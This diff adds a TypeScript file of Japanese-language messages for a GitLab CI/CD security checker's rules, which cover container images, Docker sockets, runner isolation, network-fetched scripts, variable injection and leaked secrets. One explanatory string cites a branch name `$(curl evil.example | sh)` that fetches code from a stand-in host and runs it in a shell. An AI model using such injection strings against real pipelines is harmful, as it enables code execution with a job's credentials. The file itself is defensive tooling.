@@ -1,0 +1,308 @@
+// biome-ignore-all lint/style/noExcessiveLinesPerFile: one entry a rule, in one file a language.
+/** What the rules say, in Japanese (日本語). Keywords and names of settings stay as they are. */
+import type { TranslatedRules } from './words.ts';
+
+/** `refusalMessages` of the rules, for イメージ and サービス. */
+function refused<const What extends string>(what: What) {
+  return {
+    denied: `${what} {value} はポリシーで禁止されています（拒否リストの {pattern} に一致）。`,
+    'not-listed': `${what} {value} はポリシーで許可されていません。`,
+    nearest: `${what} {value} はポリシーで許可されていません。{nearest} は許可されています。`,
+    'runner-refuses': `${what} {value} はランナーで許可されていないため、ジョブは失敗します。ランナーの出力: {sentence}`,
+  } as const;
+}
+
+export const japaneseRules: TranslatedRules = {
+  'image-not-allowed': {
+    why: 'イメージの中身はジョブの認証情報を使って実行されます。監査済みのイメージだけを使ってください。',
+    fix: '許可リストのイメージを使うか、このイメージの追加を依頼してください。',
+    messages: refused('イメージ'),
+  },
+  'service-not-allowed': {
+    why: 'サービスはジョブと同じネットワークと変数を使って動きます。監査済みのイメージだけを使ってください。',
+    fix: '許可リストのサービスイメージを使うか、このイメージの追加を依頼してください。',
+    messages: refused('サービス'),
+  },
+  'image-not-evaluable': {
+    why: 'どのイメージが使われ、どのランナーで動くのか、実行前に確認できません。',
+    fix: '値を直接書くか、変数を設定画面ではなく設定ファイルで定義してください。',
+    messages: {
+      image: '{variables} の値が不明なため、イメージ {value} を判定できません。',
+      service: '{variables} の値が不明なため、サービス {value} を判定できません。',
+      'pull-policy': '{variables} の値が不明なため、プルポリシー {value} を判定できません。',
+      tag: '{variables} の値が不明なため、タグ {value} からはジョブのランナーを特定できません。',
+    },
+  },
+  'image-not-pinned': {
+    why: 'タグが再度プッシュされると、監査したものとは別のイメージが動きます。',
+    fix: 'バージョンを指定してください。ダイジェストも付けるとより確実です: `ruby:3.4.7@sha256:…`',
+    messages: {
+      'no-tag': '{value} にはバージョンの指定がなく、実行時点の `latest` が使われます。',
+      mutable: '{value} のタグ {tag} は、指すイメージが変わることがあります。',
+      'no-digest': '{value} には、ポリシーが求めるダイジェストの指定がありません。',
+    },
+  },
+  'image-user-root': {
+    why: 'コンテナの root は、カーネルやランタイムの欠陥が一つあればマシンの root になります。',
+    fix: '権限のないユーザーを指定するか、ユーザーの指定をイメージに任せてください。',
+    messages: {
+      root: 'イメージ {image} が root ユーザー（{value}）で実行されます。',
+      'not-listed': 'イメージ {image} のユーザー {value} はポリシーで許可されていません（許可: {allowed}）。',
+      'runner-refuses':
+        'ユーザー {value} は、このジョブを受け取るどのランナークラス（{runner}）でも許可されていないため、ジョブは失敗します: {sentence}',
+    },
+  },
+  'pull-policy-not-allowed': {
+    why: 'マシンに残っているイメージは、プル権限の確認なしに使われます。非公開イメージの漏えいや、すり替えにつながります。',
+    fix: '`always` だけを指定してください。変更のないイメージが再ダウンロードされることはありません。',
+    messages: {
+      'not-listed': 'プルポリシー {value} はポリシーで許可されていません（許可: {allowed}）。',
+      reused: 'プルポリシー {value} では、他のプロジェクトが共有ランナーに残したイメージが使われます。',
+      fallback:
+        '{first} が失敗すると、プルポリシー {value} により、他のプロジェクトが共有ランナーに残したイメージが使われます。',
+      fails: 'プルポリシー {value} はランナーで許可されていないため、ジョブは失敗します。ランナーの出力: {sentence}',
+    },
+  },
+  'docker-socket-used': {
+    why: 'このデーモンを操作できると、マシンの root として、他のジョブのコンテナ、変数、ファイルをすべて見られます。',
+    fix: 'rootless BuildKit か Buildah でビルドするか、ジョブを分離するランナークラス（Sysbox、またはジョブごとの仮想マシン）を使ってください。',
+    messages: {
+      host: '{variable} の {value} は、ジョブが動くマシンの Docker デーモンです。',
+      socket: '{value} は、ジョブが動くマシンの Docker デーモンに接続します。',
+      command: '{value} は、ジョブが動くマシンの Docker デーモンを操作します。ジョブ専用のデーモンはありません。',
+    },
+  },
+  'docker-in-docker': {
+    why: 'このデーモンには特権コンテナが必要で、その中の root は、他のジョブも動くマシンの root と同じです。',
+    fix: 'rootless BuildKit か Buildah でビルドするか、ジョブを分離するランナークラス（Sysbox、またはジョブごとの仮想マシン）を使ってください。',
+    messages: {
+      service: 'サービス {value} は、ジョブを分離しないランナーで Docker デーモンを起動します。',
+      image: 'ジョブのイメージ {value} は、ジョブを分離しないランナーで Docker デーモンを起動します。',
+    },
+  },
+  'docker-tls-disabled': {
+    why: 'TLS がないと、同じネットワークにあるものはすべて、デーモンの特権コンテナの root になれます。',
+    fix: '`DOCKER_TLS_CERTDIR` は `/certs` のままにし、ポート 2376 に接続してください。レジストリには例外設定ではなく証明書を用意してください。',
+    messages: {
+      certificates: '{name} が空のため、Docker デーモン {daemon} は証明書を作らず、要求もしません。',
+      port: '{name} の {value} は、TLS を使わない Docker デーモンのポートです。',
+      option: 'Docker デーモン {daemon} が {value} 付きで起動されます。',
+    },
+  },
+  'privileged-container': {
+    why: 'このようなコンテナはデーモンのあるマシンの root と同じで、そのマシンでは他のジョブも動きます。',
+    fix: '必要な権限だけをコンテナに与えるか、ジョブを分離するランナークラス（Sysbox、またはジョブごとの仮想マシン）を使ってください。',
+    messages: {
+      option: '{command} の {value} は、コンテナにマシンの権限を与えます。',
+      mount: '{command} は、マシンの {value} をコンテナにマウントします。',
+      machine: '{value} は、ジョブが動くマシンそのものを操作します。',
+    },
+  },
+  'shell-runner-used': {
+    why: 'shell や ssh のランナーのジョブは同じユーザーで動くため、互いのファイルを読んだり書き換えたりできます。',
+    fix: 'ジョブごとにコンテナか仮想マシンを起動するランナークラスを選んでください。',
+    messages: { found: 'ジョブがランナークラス {value}（Executor: {executor}）で動く可能性があります。' },
+  },
+  'git-strategy-reuses-checkout': {
+    why: '他のジョブがチェックアウトに残した Git フック、設定、無視ファイルが、このジョブに影響します。',
+    fix: '`GIT_STRATEGY: clone` を設定してください。',
+    messages: {
+      fetch: '{variable} が {value} のため、前のジョブが残したチェックアウトを再利用します。',
+      project:
+        '{variable} の指定がなく、プロジェクトの設定が {value} のため、前のジョブが残したチェックアウトを再利用します。',
+      unknown:
+        '前のジョブのチェックアウトを再利用する可能性があります。{variable} の指定がなく、プロジェクトの設定を Pipewarden が参照できません。',
+      variable: '前のジョブのチェックアウトを再利用する可能性があります。{variable} の {value} の値が不明です。',
+    },
+  },
+  'git-submodules-exposed': {
+    why: '次のジョブから非公開のサブモジュールも見え、前のジョブがサブモジュールに加えた変更もこのジョブに影響します。',
+    fix: '`GIT_STRATEGY: clone` を設定するか、共有ランナーのジョブではサブモジュールを使わないでください。',
+    messages: {
+      variable: '{name} が {value} ですが、このチェックアウトは他のジョブも再利用します。',
+      command: '{value} は、他のジョブも再利用するチェックアウトにサブモジュールを取得します。',
+    },
+  },
+  'script-from-network': {
+    why: 'このアドレスや通信経路を握る人は、ジョブの変数と権限を使って任意のコマンドを実行できます。',
+    fix: 'スクリプトをリポジトリかイメージに入れるか、実行前にチェックサムを照合してください。',
+    messages: {
+      piped: '{value} からの内容が、確認なしに {program} で実行されます。',
+      downloaded: '{value} からダウンロードした {file} が、チェックサムの確認なしに実行されます。',
+    },
+  },
+  'package-source-added': {
+    why: 'そのパッケージはジョブの権限で動きますが、誰が公開できるのかは確認されていません。',
+    fix: '必要なものを監査済みのイメージに入れるか、ポリシーの管理者が運用するミラーを使ってください。',
+    messages: {
+      source: '{command} がパッケージの取得元 {value} を追加します。',
+      key: '{command} がパッケージの署名鍵を追加します。',
+      unchecked: '{command} の {value} は、出所を確認せずにパッケージをインストールします。',
+    },
+  },
+  'crypto-mining': {
+    why: '盗まれたランナーの主な用途が暗号資産の採掘です。採掘できる状態なら、ほかの何でも実行できます。',
+    fix: '取り除いたうえで、誰が追加したのか、ほかに何が変更されたのかを確認してください。',
+    messages: {
+      miner: '{value} は暗号資産の採掘プログラムに関するものです。',
+      hidden: 'エンコードされたテキストに、採掘プログラムに関する {value} が含まれています。',
+    },
+  },
+  'include-not-pinned': {
+    why: '参照先にプッシュできる人は、ここでのマージリクエストなしに、このプロジェクトで動くものを変更できます。',
+    fix: '`ref` やバージョンにはリリースタグかコミットを、リモートファイルには https と `integrity` ハッシュを使ってください。',
+    messages: {
+      default: '{address} のインクルードに ref の指定がなく、デフォルトブランチに追従します。',
+      branch: '{address} のインクルードが、リリースタグでもコミットでもない {value} に追従します。',
+      version: 'コンポーネント {address} のバージョン {value} は、リリースのたびに変わります。',
+      integrity: 'リモートファイル {address} に integrity ハッシュがなく、その時点の内容がそのまま使われます。',
+      plain: 'リモートファイル {address} は http で取得されるため、通信経路上の誰でもすり替えられます。',
+    },
+  },
+  'include-not-allowed': {
+    why: 'インクルードされたファイルは、このプロジェクトの変数とトークンを使って、プロジェクト自身のファイルと同じように動きます。',
+    fix: '信頼できるプロジェクトのファイルを使うか、このプロジェクトにコピーするか、アドレスの追加を依頼してください。',
+    messages: {
+      foreign: '{value} のインクルードは、この GitLab インスタンスの外を参照しています。',
+      'not-listed': '{value} のインクルードはポリシーで許可されていません。',
+    },
+  },
+  'include-not-evaluable': {
+    why: 'このファイルの内容が確認されないままパイプラインに入るか、パイプラインが作成できなくなります。',
+    fix: 'アドレスを修正するか、ファイルのあるプロジェクトへのアクセス権を Pipewarden のユーザーに付与してください。ジョブが生成するファイルは、生成元のジョブを確認してください。',
+    messages: {
+      refused: 'GitLab はこのインクルードを受け付けません: {problem}',
+      unreadable: 'このインクルードを読み取れないため、その内容は判定していません: {problem}',
+      several: '{count} 件のインクルードを読み取れないため、その内容は判定していません。最初のもの: {problem}',
+      generated: 'このファイルはパイプラインの実行中にジョブが生成するため、その内容は判定していません: {value}',
+    },
+  },
+  'runner-not-allowed': {
+    why: '特権ランナーや専用ランナーを誰のブランチからでも使えると、その権限を全員に与えることになります。',
+    fix: 'このプロジェクトに提供されているランナーのタグを使うか、`rules` でジョブを保護ブランチに限定してください。',
+    messages: {
+      'not-offered': 'タグ {value} が選ぶランナークラス {runner} は、このプロジェクトには提供されていません。',
+      privileged:
+        'ジョブが特権ランナークラス {runner} で動く可能性があり、保護されていないブランチのパイプラインでも実行されます。',
+      'not-listed': 'タグ {value} はポリシーで許可されていません（許可: {allowed}）。',
+      'user-chosen': 'タグ {value} では、ブランチやマージリクエストの名前を付ける人がランナーを選べます。',
+    },
+  },
+  'runner-override': {
+    why: 'プロジェクトを分離するためのランナー管理者の設定が、このファイルを変更できる人に上書きされます。',
+    fix: 'この変数を削除し、ジョブに必要なことはランナーの管理者に相談してください。',
+    messages: {
+      kubernetes: '{name} は、ランナー管理者による {what} の設定を上書きします。',
+      custom: '{name} は、ジョブの外で動く Custom Executor のスクリプトに読み込まれます。',
+      flag: '{name} の {value} は、ジョブ間の分離を弱めます。',
+      credentials: 'ファイルに書かれた {name} の認証情報は誰でも読め、ランナーはそれを使ってイメージをプルします。',
+      files: '{name} により、セキュアファイルが {value} に置かれます。',
+      path: '{name} の {value} は、ランナーがクリーンアップするフォルダーの外です。',
+      clean: '{name} が {value} のため、前のジョブが残したファイルがこのジョブに影響します。',
+    },
+  },
+  'debug-trace-enabled': {
+    why: 'ログを閲覧できる人全員に機密情報が見えます。マスキングですべてを隠せるわけではありません。',
+    fix: '変数を削除するか `false` にし、必要な実行のときだけ手動で設定してください。',
+    messages: {
+      trace: '{name} が {value} のため、ジョブの変数がすべてログに表示されます。',
+      services: '{name} が {value} のため、サービスの出力が機密情報も含めてログに表示されます。',
+    },
+  },
+  'variable-injection': {
+    why: '`$(curl evil.example | sh)` のようなブランチ名やタイトルが、ジョブの変数と権限を使って実行されてしまいます。',
+    fix: '値は引数として渡してください: `bash -c \'… "$1"\' _ "$CI_COMMIT_REF_NAME"`',
+    messages: {
+      argument: '{value} が、{program} がコマンドとして実行するテキストに含まれています。',
+      input:
+        '{input} を通じて、GitLab が {value} の内容をスクリプト自体に埋め込むため、シェルを介さずにコマンドになり得ます。',
+      document: '{value} が、{program} がコマンドとして実行するヒアドキュメントに含まれています。',
+    },
+  },
+  'secret-in-configuration': {
+    why: 'プロジェクトを閲覧できる人全員に見え、フォークやクローンにも含まれます。行を消しても履歴に残ります。',
+    fix: 'まず失効させ、新しいものをマスク・保護された CI/CD 変数かシークレットマネージャーに保存してください。',
+    messages: { literal: '{value} は平文で書かれた認証情報です（{kind}）。' },
+  },
+  custom: {
+    why: 'このインスタンスの管理者が求めている項目です。',
+    fix: 'メッセージのとおりに対応するか、ポリシーの管理者に相談してください。',
+    messages: { found: '{policy_words} ポリシーのチェック {name} が {value} を認めていません。' },
+  },
+  'runner-config-privileged': {
+    why: 'ジョブを実行できる人は誰でもマシンの root になり、ほかの利用者のジョブとシークレットを見られます。',
+    fix: '`privileged = false` にするか、`allowed_privileged_images` と `allowed_privileged_services` で制限するか、ジョブごとにマシンを用意してください。',
+    messages: {
+      jobs: '{value} により、すべてのジョブがランナーのマシンの root になります。',
+      services: '{value} により、ジョブのすべてのサービスがランナーのマシンの root になります。',
+      everything: '{list} のパターン {value} により、すべてのイメージがランナーのマシンの root になれます。',
+    },
+  },
+  'runner-config-docker-socket': {
+    why: 'どの場合も、ジョブがマシンを乗っ取れます。コンテナの起動、他のジョブのシークレットの閲覧、実行内容の改変が可能です。',
+    fix: 'この設定を削除し、イメージは rootless BuildKit か Buildah、または Sysbox で分離されたランナーでビルドしてください。',
+    messages: {
+      socket: 'ボリューム {value} により、マシンのコンテナを動かすデーモンがすべてのジョブに渡されます。',
+      folder: 'ボリューム {value} により、システムのフォルダーがすべてのジョブに渡されます。',
+      device: 'マシンのデバイス {value} がすべてのジョブに渡されます。',
+      right: '{setting} の {value} により、すべてのジョブにマシンの権限が与えられます。',
+    },
+  },
+  'runner-config-pull-policy': {
+    why: 'マシンに残っているイメージは、プル権限の確認なしに使われます。非公開イメージの漏えいや、すり替えにつながります。',
+    fix: '`pull_policy` と `allowed_pull_policies` には `always` だけを指定してください。変更のないイメージが再ダウンロードされることはありません。',
+    messages: {
+      reused: 'プルポリシー {value} では、他のプロジェクトがランナーに残したイメージが使われます。',
+      fallback:
+        '{first} が失敗すると、プルポリシー {value} により、他のプロジェクトがランナーに残したイメージが使われます。',
+      allowed: 'ジョブが選べるプルポリシー {value} では、他のプロジェクトがランナーに残したイメージが使われます。',
+      unset:
+        'Runner 18.0 より前の Kubernetes では、{setting} なしに {value} を指定すると、すべてのジョブが失敗します。',
+    },
+  },
+  'runner-config-images-open': {
+    why: '回避できないのはランナー側のリストだけです。また、誤ったパターンは警告なしに無視されます。',
+    fix: 'ジョブに必要なイメージとサービスを、レジストリ名を付けて `allowed_images` と `allowed_services` に列挙してください。',
+    messages: {
+      allowed_images: '{value} がないため、ジョブはどのイメージでも使えます。',
+      allowed_services: '{value} がないため、ジョブはどのイメージでもサービスとして使えます。',
+      everything: '{list} のパターン {value} は、すべてのイメージを許可します。',
+      pattern: '{list} のパターン {value} に問題があります: {fault}',
+    },
+  },
+  'runner-config-executor': {
+    why: 'ジョブがマシンに残したものを、次のジョブが自分の変数、トークン、権限を使って実行してしまいます。',
+    fix: 'ジョブごとにコンテナかマシンを起動する Executor を選び、ssh では `known_hosts_file` を指定し、特権マシンは一度だけ使ってください。',
+    messages: {
+      shell: 'Executor {value} は、すべてのジョブをマシンの同じユーザーで実行します。',
+      'host-key': '{value} がないため、ランナーは偽のマシンにもジョブとシークレットを渡す可能性があります。',
+      unchecked: '{value} により、ランナーは偽のマシンにもジョブとシークレットを渡す可能性があります。',
+      machines: '特権ジョブはマシンを乗っ取れますが、{value} により同じマシンを複数のジョブ（{count}）が使います。',
+    },
+  },
+  'runner-config-sysbox': {
+    why: 'Sysbox を前提にすると、ジョブは root で動きます。それが安全なのは Sysbox の中だけです。',
+    fix: '`privileged = false` にしてください。Sysbox のコンテナでは Docker がそのまま動きます。GitLab Runner は 14.4.0 以降を使ってください。',
+    messages: {
+      privileged: 'ランタイム {runtime} の分離では {value} は不要で、設定すると分離の一部が失われます。',
+      'old-runner': 'Runner {version} はランタイム {value} を使わずにサービスを起動します。14.4.0 で修正されています。',
+    },
+  },
+  'runner-config-token': {
+    why: 'リポジトリを、履歴も含めて閲覧できる人は、このランナーのジョブとそのシークレットをすべて受け取れます。',
+    fix: 'トークンを取り除き、GitLab でリセットし、デプロイ時に設定するようにしてください。',
+    messages: {
+      token: 'ランナーの {value} がリポジトリに書かれています。',
+      credential: 'ランナーの認証情報 {value} がリポジトリに書かれています。',
+    },
+  },
+  'runner-config-tls': {
+    why: '通信経路上の誰でも、すべてのジョブのソースとシークレットを読み、実行内容を変更できます。',
+    fix: 'https と `tls_verify = true` を使ってください。プライベート認証局は、検証を無効にせず `tls-ca-file` に指定してください。',
+    messages: {
+      http: 'ランナーは {address} と TLS なしで通信します。',
+      skipped: '{value} により、ランナーは通信相手を確認しません。',
+      daemon: '{value} がないため、{address} までの経路上の誰でも Docker デーモンを操作できます。',
+    },
+  },
+};
